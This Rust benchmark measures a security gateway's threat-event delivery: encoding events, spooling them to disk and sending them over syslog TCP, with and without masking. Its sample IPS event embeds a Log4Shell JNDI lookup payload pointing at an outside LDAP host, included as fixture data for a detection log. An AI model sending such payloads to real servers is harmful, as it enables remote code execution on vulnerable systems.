//! MSS delivery cost: threat events per second through masking-free encoding (ThreatEvent →
//! RFC 5424 + JSON, octet counted), the disk spool (append + one fsync per batch) and a syslog
//! TCP sink to a local reader that discards. One sink thread does the encoding, spooling and
//! sending: the figure is events/s on one core. A second group adds masking (query values,
//! user agent) done by the producer.

#![allow(missing_docs)]

/// The allocator the `sekisho` binary runs with (gateway/cli/main.rs).
#[global_allocator]
static ALLOC: mimalloc::MiMalloc = mimalloc::MiMalloc;

use std::io::Read;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use sekisho_core::{
    DestinationInfo, Evidence, Finding, FlowMeta, HttpInfo, Observer, Severity, ThreatEvent,
};
use sekisho_mss::{Mss, MssConfig, MssMetrics};

const PER_ITER: u64 = 20_000;

fn event() -> ThreatEvent {
    let mut f = Finding::new(
        "ips",
        "2049400",
        "ET EXPLOIT Apache log4j RCE Attempt (http uri)",
        Severity::High,
        "attempted-admin",
        Evidence::new("http.uri", "/search?q=${jndi:ldap://203.0.113.5/a}"),
    );
    f.stage = "ips";
    let meta = FlowMeta::new(
        4711,
        "forward",
        "10.20.30.40:51234".parse().expect("addr"),
        "10.0.0.1:3128".parse().expect("addr"),
    );
    let obs = Observer {
        name: "sekisho".into(),
        version: "0.1.0".into(),
        node: "gw-tokyo-1".into(),
    };
    let dest = DestinationInfo {
        ip: Some("192.0.2.10".into()),
        port: Some(443),
        domain: Some("claims.example.jp".into()),
    };
    let http = HttpInfo {
        method: "GET".into(),
        url: "https://claims.example.jp/search?q=${jndi:ldap://203.0.113.5/a}&patient=12345".into(),
        hostname: Some("claims.example.jp".into()),
        status: None,
        user_agent: Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64)".into()),
        request_id: None,
    };
    ThreatEvent::from_finding(&f, &meta, &obs, dest, Some(http))
}

/// A TCP reader that discards and counts bytes.
fn reader() -> (std::net::SocketAddr, Arc<AtomicU64>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let addr = l.local_addr().expect("addr");
    let n = Arc::new(AtomicU64::new(0));
    let n2 = Arc::clone(&n);
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let n3 = Arc::clone(&n2);
            std::thread::spawn(move || {
                let mut buf = vec![0u8; 1 << 16];
                while let Ok(k) = s.read(&mut buf) {
                    if k == 0 {
                        break;
                    }
                    n3.fetch_add(k as u64, Ordering::Relaxed);
                }
            });
        }
    });
    (addr, n)
}

fn run(c: &mut Criterion, name: &str, mask: &str) {
    let (addr, _bytes) = reader();
    let dir = std::env::temp_dir().join(format!("sekisho-bench-mss-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let cfg: MssConfig = toml::from_str(&format!(
        "spool_dir = \"{}\"\nbatch = 1000\n{mask}\n[[sink]]\nname = \"bench\"\nkind = \"syslog\"\naddr = \"{addr}\"\nformat = \"rfc5424-json\"\n",
        dir.display()
    ))
    .expect("config");
    let metrics = MssMetrics::unregistered().expect("metrics");
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    let (mss, tasks) = Mss::start(&cfg, Observer::default(), metrics.clone()).expect("start");
    let sent = metrics.sent.with_label_values(&["bench"]);
    let ev = event();
    let mut g = c.benchmark_group("mss");
    g.throughput(Throughput::Elements(PER_ITER));
    g.sample_size(10);
    g.bench_function(name, |b| {
        b.iter_custom(|iters| {
            let start = Instant::now();
            for _ in 0..iters {
                let target = sent.get() + PER_ITER;
                // Concurrent producers, as flows are: each waits for its event's hand-off.
                rt.block_on(futures_util::future::join_all(
                    (0..PER_ITER).map(|_| mss.threat(&ev)),
                ));
                let deadline = Instant::now() + Duration::from_secs(60);
                while sent.get() < target && Instant::now() < deadline {
                    std::thread::sleep(Duration::from_micros(200));
                }
            }
            start.elapsed()
        })
    });
    g.finish();
    eprintln!(
        "{name}: sent {} acked {} spool {} bytes",
        sent.get(),
        metrics.acked.with_label_values(&["bench"]).get(),
        metrics.spool_bytes.with_label_values(&["bench"]).get()
    );
    drop(mss);
    tasks.join();
    let _ = std::fs::remove_dir_all(&dir);
}

fn bench(c: &mut Criterion) {
    run(c, "syslog_tcp_spool_fsync", "");
    run(
        c,
        "syslog_tcp_spool_fsync_masked",
        "[mask]\nquery = true\nheaders = [\"user-agent\"]\n",
    );
}

criterion_group!(benches, bench);
criterion_main!(benches);
